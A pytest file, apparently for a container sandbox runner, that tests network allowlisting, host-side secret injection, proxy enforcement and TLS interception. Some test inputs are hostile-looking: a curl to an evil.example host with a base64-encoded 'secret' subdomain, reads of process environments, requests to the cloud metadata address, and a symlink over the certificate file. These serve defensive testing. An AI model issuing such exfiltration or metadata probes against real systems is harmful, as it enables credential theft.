"""Sessions with a network: programs in real containers, servers on this machine.

The servers are at 127.0.0.2, which no program in a container takes for its own loopback.
"""

import contextlib
import functools
import http.server
import shutil
import ssl
import subprocess
import threading
import zipfile
from collections.abc import Iterator
from pathlib import Path

import pip
import pytest

from runner import Policy, Runner, SandboxLost, Session, Settings, Status
from runner.egress.interception import Interception
from tests.conftest import make_settings
from tests.host import docker

pytestmark = pytest.mark.docker

HERE = "127.0.0.2"
CURL_DOES_NOT_TRUST = 60
WHEEL = "thing-1.0-py3-none-any.whl"


class Site:
    """A web server with files, and what it was asked."""

    def __init__(self, root: Path, tls: ssl.SSLContext | None = None):
        self.root = root
        self.headers: list[dict[str, str]] = []
        site = self

        class Handler(http.server.SimpleHTTPRequestHandler):
            def do_GET(self) -> None:
                site.headers.append({name.lower(): value for name, value in self.headers.items()})
                super().do_GET()

            def log_message(self, *arguments: object) -> None:
                """Say nothing."""

        handler = functools.partial(Handler, directory=str(root))
        here = HERE if tls is None else "127.0.0.1"
        self._server = http.server.ThreadingHTTPServer((here, 0), handler)
        if tls is not None:
            self._server.socket = tls.wrap_socket(self._server.socket, server_side=True)
        self.port = int(self._server.server_address[1])
        self.url = f"http://{HERE}:{self.port}"
        self._thread = threading.Thread(target=self._server.serve_forever)
        self._thread.start()

    def close(self) -> None:
        self._server.shutdown()
        self._server.server_close()
        self._thread.join()


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Site]:
    """A site with a page, a repository and a package index."""
    root = tmp_path_factory.mktemp("site")
    (root / "page").write_text("a page\n")
    _repository(root)
    _index(root)
    made = Site(root)
    yield made
    made.close()


def _repository(root: Path) -> None:
    source = root / "source"
    git = ["git", "-c", "user.name=a", "-c", "user.email=a@a.example", "-C", str(source)]
    subprocess.run(["git", "init", "--quiet", str(source)], check=True)
    (source / "file").write_text("from the repository\n")
    subprocess.run([*git, "add", "."], check=True)
    subprocess.run([*git, "commit", "--quiet", "-m", "one"], check=True)
    bare = root / "project.git"
    subprocess.run(["git", "clone", "--quiet", "--bare", str(source), str(bare)], check=True)
    subprocess.run(["git", "-C", str(bare), "update-server-info"], check=True)


def _index(root: Path) -> None:
    directory = root / "simple" / "thing"
    directory.mkdir(parents=True)
    with zipfile.ZipFile(directory / WHEEL, "w") as wheel:
        for name, text in {
            "METADATA": "Metadata-Version: 2.1\nName: thing\nVersion: 1.0\n",
            "WHEEL": "Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
            "RECORD": "",
        }.items():
            wheel.writestr(f"thing-1.0.dist-info/{name}", text)
    (directory / "index.html").write_text(f'<a href="{WHEEL}">{WHEEL}</a>')


@pytest.fixture(scope="module")
def runner(
    docker_daemon: None, site: Site, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[Runner]:
    """A runner whose sessions may reach the site."""
    policy = Policy.parse(
        "version: 1\ndefault: allow\nnetwork:\n  allow:\n"
        f"    - {{host: {HERE}, ports: {site.port}}}\n"
    )
    secret = {
        "host": HERE,
        "ports": [site.port],
        "plain_http": True,
        "header": "X-Key",
        "value": "s3cr3t",
        "paths": ["/page"],
    }
    settings = make_settings(
        tmp_path_factory.mktemp("data"),
        network="allowlist",
        intercept=("api.example",),
        credentials={"site": secret},
    )
    with Runner(policy=policy, settings=settings, tools="extended") as made:
        yield made
    shutil.rmtree(settings.runtime_dir, ignore_errors=True)


@pytest.fixture(scope="module")
def session(runner: Runner, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Session]:
    """A session with pip in its workspace."""
    workspace = tmp_path_factory.mktemp("workspace")
    leave_out = shutil.ignore_patterns("__pycache__", "*.exe")
    shutil.copytree(Path(pip.__file__).parent, workspace / "pip", ignore=leave_out)
    with runner.session(workspace=workspace) as session:
        yield session


def test_git_clones_through_the_allowlist(session: Session, site: Site) -> None:
    done = session.bash(
        f"git clone -q {site.url}/project.git /tmp/project && cat /tmp/project/file"
    )

    assert done.text == "from the repository\n"


def test_pip_downloads_through_the_allowlist(session: Session, site: Site) -> None:
    done = session.bash(
        "PYTHONPATH=/workspace python3 -m pip download -q --no-deps --dest /tmp/wheels"
        f" --index-url {site.url}/simple --trusted-host {HERE} thing; ls /tmp/wheels"
    )

    assert done.text.splitlines()[-1] == WHEEL


def test_a_secret_is_added_on_the_host_and_is_not_in_the_container(
    session: Session, site: Site
) -> None:
    done = session.bash(f"curl -sS {site.url}/page; env; cat /proc/1/environ | tr '\\0' '\\n'")

    assert done.text.startswith("a page\n")
    assert "s3cr3t" not in done.text
    assert site.headers[-1]["x-key"] == "s3cr3t"


def test_what_is_refused_says_what_is_allowed_and_is_never_resolved(session: Session) -> None:
    done = session.bash("curl -sS https://c2VjcmV0.evil.example/")

    assert done.status is Status.FAILED
    assert "no rule allows c2vjcmv0.evil.example:443; allowed are: 127.0.0.2:" in done.text
    (reason,) = done.details["network_refused"]
    assert "evil.example" in reason


def test_there_is_no_way_but_the_proxy(session: Session, site: Site) -> None:
    done = session.bash(
        f"curl -sS --noproxy '*' --max-time 5 {site.url}/page; echo $?;"
        " curl -sS --noproxy '*' --max-time 5 http://1.1.1.1/; echo $?;"
        " getent hosts pypi.org; echo $?; cat /proc/net/route | wc -l; ls /sys/class/net"
    )

    assert [line for line in done.output.splitlines() if not line.startswith("curl:")] == [
        *("7", "7", "2", "1", "lo"),
    ]


def test_programs_trust_the_authority_of_the_session_beside_the_usual_ones(
    session: Session,
) -> None:
    done = session.bash('echo $SSL_CERT_FILE; grep -c BEGIN "$SSL_CERT_FILE"')

    path, count = done.output.split()
    assert path == "/tmp/.runner-certificates.pem"
    assert int(count) > 1


def test_a_rebuilt_container_has_its_network_again(session: Session, site: Site) -> None:
    assert session.info.container_id
    docker("kill", session.info.container_id)
    with contextlib.suppress(SandboxLost):
        session.bash("true")

    done = session.bash(f'curl -sS {site.url}/page; test -s "$SSL_CERT_FILE" && echo there')

    assert done.text == "a page\nthere\n"


def test_what_calls_put_where_the_authorities_go_keeps_nobody_from_taking_over(
    runner: Runner, site: Site
) -> None:
    with runner.session(kept=True) as session:
        path = "/tmp/.runner-certificates.pem"
        assert not session.bash(f"echo mine > own && ln -sf $PWD/own {path}").is_error
    with Runner(policy="default", settings=runner.settings) as other:
        taken = other.attach(session.id)
        done = taken.bash(f"cat own; curl -sS {site.url}/page")
        other.close_session(session.id)

    assert done.output.startswith("mine\n")
    assert "no rule allows" in done.text


def test_http_get_is_under_the_same_rules(session: Session) -> None:
    for url, words in (
        ("https://evil.example/", "no rule allows GET evil.example:443/"),
        ("http://127.0.0.2/", "only https"),
        ("https://169.254.169.254/latest", "no rule allows"),
    ):
        done = session.call("http_get", {"url": url})
        assert done.status is Status.DENIED
        assert words in done.text


def test_a_session_without_a_network_has_no_proxy_and_no_http_get(runner: Runner) -> None:
    with runner.session(network="none") as session:
        done = session.bash("env | grep -ic proxy; curl -sS http://127.0.0.1:3128/")
        fetched = session.call("http_get", {"url": "https://pypi.org/"})

    assert done.output.startswith("0\ncurl: (7)")
    assert fetched.text == "http_get: this session has no network: whoever opened it gave it none"


def test_https_of_a_listed_host_is_opened_for_the_programs_that_come_with_the_image(
    docker_daemon: None,
    site: Site,
    tmp_path: Path,
    short_directory: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    servers = Interception(["localhost"])
    (tmp_path / "roots.pem").write_bytes(servers.certificate)
    monkeypatch.setenv("SSL_CERT_FILE", str(tmp_path / "roots.pem"))
    secure = Site(site.root, servers.context("localhost"))
    policy = Policy.parse(
        "version: 1\ndefault: allow\nnetwork: {allow: [{host: localhost, addresses: [127.0.0.0/8],"
        f" ports: {secure.port}, methods: [GET], paths: [/page, /project.git/**]}}]}}"
    )
    settings = Settings.read(
        data_dir=tmp_path / "data",
        runtime_dir=short_directory,
        network="allowlist",
        intercept=("localhost",),
        credentials={"site": {"host": "localhost", "ports": [secure.port], "value": "s3cr3t"}},
    )
    url = f"https://localhost:{secure.port}"
    try:
        with (
            Runner(policy=policy, settings=settings) as runner,
            runner.session(environment={"no_proxy": "", "NO_PROXY": ""}) as session,
        ):
            curl = session.bash(f"curl -sS {url}/page; curl -sS {url}/other")
            fetched = "import urllib.request as u; print(u.urlopen('" + url + "/page').read())"
            python = session.bash(f'python3 -c "{fetched}"')
            git = session.bash(f"git clone -q {url}/project.git /tmp/p && cat /tmp/p/file")
            untrusting = session.bash(f"env -u CURL_CA_BUNDLE -u SSL_CERT_FILE curl -sS {url}/page")
    finally:
        secure.close()

    assert curl.text.startswith("a page\nrunner: the connection was refused: no rule allows GET")
    assert python.text == "b'a page\\n'\n"
    assert git.text == "from the repository\n"
    assert {sent.get("authorization") for sent in secure.headers} == {"s3cr3t"}
    assert untrusting.exit_code == CURL_DOES_NOT_TRUST


def test_in_an_open_network_what_is_not_public_stays_out_of_reach(
    runner: Runner, site: Site
) -> None:
    with runner.session(network="open") as session:
        done = session.bash("curl -sS http://127.0.0.3/ http://169.254.169.254/ http://10.0.0.1/")

    assert "127.0.0.3 is not a public address (loopback)" in done.text
    assert "169.254.169.254 is not a public address (link-local" in done.text
    assert "10.0.0.1 is not a public address (private)" in done.text
